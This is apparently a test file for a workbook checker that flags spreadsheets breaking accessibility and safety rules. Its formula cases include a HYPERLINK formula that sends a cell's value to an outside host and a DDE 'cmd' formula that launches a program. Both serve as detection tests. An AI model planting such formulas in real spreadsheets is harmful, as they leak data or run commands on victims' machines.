import { describe, expect, it } from 'vitest'
import { checkWorkbook } from '#shared/documents/check/check-workbook.ts'
import { documentFinding, type WorkbookRule, workbookRules } from '#shared/domain/records/document-finding.ts'
import { aWorkbookFile, cells, type WorkbookParts } from './a-workbook-file.ts'

type Edit = (parts: WorkbookParts) => Partial<WorkbookParts>
const changed =
  (part: 'rows' | 'core' | 'custom' | 'drawing', from: string, to: string): Edit =>
  (parts) => {
    if (!parts[part].includes(from)) throw new Error(`there is no ${from} in ${part}`)
    return { [part]: parts[part].replace(from, to) }
  }
const bait = (formula: string): Edit => changed('rows', '=B4-1'.slice(1), formula)
const columns =
  (...names: string[]): Edit =>
  () => ({ columns: names })

/** Each breaks one rule and no other. */
const broken: [rule: WorkbookRule, what: string, edit: Edit, where: string | null, count: number][] = [
  ['titleMissing', 'no title', changed('core', 'Partnere', ''), null, 1],
  ['fileLanguage', 'no language', changed('custom', 'Language', 'Avdeling'), null, 1],
  ['fileLanguage', 'no code of a language', changed('custom', 'nb-NO', 'norsk'), null, 1],
  ['sheetName', 'the name of nobody', () => ({ names: ['Partnere', 'Ark1'] }), 'Ark1', 1],
  ['sheetName', 'the same name twice', () => ({ names: ['Partnere', 'PARTNERE '] }), 'PARTNERE ', 1],
  ['sheetTitle', 'nothing in A1', changed('rows', '<c r="A1" t="s"><v>1</v></c>', ''), 'Partnere', 1],
  ['sheetTitle', 'a blank text in A1', changed('rows', '<v>1</v>', '<v>0</v>'), 'Partnere', 1],
  [
    'sheetTable',
    'rows that are no table',
    ({ second }) => ({ second: second + cells(3, ['Laget', '2026']) + cells(4, ['For', 'styret']) }),
    'Om',
    1,
  ],
  ['columnNames', 'a name twice', columns('Navn', 'Lovet', 'lovet', 'Merknad'), 'Partnere', 1],
  ['columnNames', 'a column that nobody named', columns('Navn', 'Kolonne2', 'Rest', 'Merknad'), 'Partnere', 1],
  ['columnNames', 'a blank cell above a column', changed('rows', '<t>Lovet</t>', '<t> </t>'), 'Partnere', 1],
  [
    'cellsMerged',
    'merged cells',
    () => ({ after: '<mergeCells><mergeCell ref="A1:B1"/></mergeCells>' }),
    'Partnere',
    1,
  ],
  ['blankRows', 'two blank rows', () => ({ tableRef: 'A3:D8' }), 'Partnere', 2],
  ['blankColumns', 'a column for room', columns('Navn', 'Lovet', 'Rest', 'Column4'), 'Partnere', 1],
  ['headerFrozen', 'nothing frozen', () => ({ view: '' }), 'Partnere', 1],
  ['headerFrozen', 'frozen too high', () => ({ view: '<pane ySplit="2" state="frozen"/>' }), 'Partnere', 1],
  ['headerFrozen', 'only split', () => ({ view: '<pane ySplit="3" state="split"/>' }), 'Partnere', 1],
  ['printTitles', 'none', () => ({ titles: '' }), 'Partnere', 1],
  ['printTitles', 'the row above', () => ({ titles: "'Partnere'!$2:$2" }), 'Partnere', 1],
  ['imageText', 'a chart that says nothing', changed('drawing', 'Moss 10, Halden 20', ''), 'Partnere', 1],
  ['formulaText', 'a sum of figures', bait('1+1'), 'Partnere', 1],
  ['formulaText', 'a word', bait('hello'), 'Partnere', 1],
  ['formulaText', 'a link that sends what it reads', bait('HYPERLINK("http://x?"&amp;B4,"her")'), 'Partnere', 1],
  ['formulaText', 'another program', bait('cmd|" /C calc"!A0'), 'Partnere', 1],
  ['formulaText', 'another workbook', bait('[1]Ark1!A1'), 'Partnere', 1],
  [
    'formulaText',
    'a formula among texts',
    changed(
      'rows',
      '<c r="A5" t="inlineStr"><is><t>Halden</t></is></c>',
      '<c r="A5" t="str"><f>SUM(B4)</f><v>10</v></c>',
    ),
    'Partnere',
    1,
  ],
]

describe('a sound workbook', () => {
  it('has no findings', () => {
    expect(checkWorkbook(aWorkbookFile())).toEqual([])
  })
  it.each<[string, Edit]>([
    ['a hidden sheet without anything', () => ({ hidden: true, names: ['Partnere', 'Ark2'], second: '' })],
    [
      'a table without rows',
      (parts) => ({ tableRef: 'A3:D4', rows: parts.rows.slice(0, parts.rows.indexOf('<row r="4"')) }),
    ],
    ['a day in a function', bait('TODAY()')],
    ['a link to another sheet', bait('HYPERLINK("#\'Om\'!A1","Om")')],
    ['a text in quotes that looks like a program', bait('IF(B4&gt;1,"a|b","c")')],
    [
      'its language among the core properties',
      ({ core }) => ({ custom: '', core: `${core}<dc:language>sv-SE</dc:language>` }),
    ],
  ])('may have %s', (_, edit) => {
    expect(checkWorkbook(aWorkbookFile(edit))).toEqual([])
  })
  it('may have its header too far down to be frozen', () => {
    const down = (text: string) =>
      text.replace(/\b([A-D]|r=")([3-6])\b/g, (_, before, row) => `${before}${Number(row) + 7}`)
    const file = aWorkbookFile((parts) => ({
      view: '',
      rows: down(parts.rows),
      tableRef: down(parts.tableRef),
      titles: "'Partnere'!$10:$10",
    }))
    expect(checkWorkbook(file)).toEqual([])
  })
})

describe('a workbook that breaks a rule', () => {
  it.each(broken)('%s: %s', (rule, _, edit, where, count) => {
    const found = checkWorkbook(aWorkbookFile(edit))
    expect(found).toEqual([{ rule, where: where?.trim() ?? null, count }])
    expect(documentFinding.parse(found[0])).toEqual(found[0])
  })
  it('has a workbook here for each rule', () => {
    expect(new Set(broken.map(([rule]) => rule))).toEqual(new Set(workbookRules))
  })
})
